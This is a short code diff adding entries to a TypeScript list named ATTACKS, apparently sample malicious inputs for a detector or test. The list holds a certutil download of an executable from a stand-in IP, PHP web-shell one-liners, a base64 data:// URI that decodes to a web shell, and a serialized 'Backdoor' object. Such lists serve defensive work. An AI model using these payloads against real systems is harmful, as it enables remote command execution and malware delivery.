@@ -147,6 +147,8 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     'for /f %i in (dir) do echo %i',
     'certutil -urlcache -f http://198.51.100.9/a.exe a.exe',
     '<?php system($_GET["c"]); ?>',
+    '<?php',
+    'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==',
     'system("id");',
     'base64_decode("aWQ=")',
     'O:8:"Backdoor":1:{s:1:"a";i:1;}',
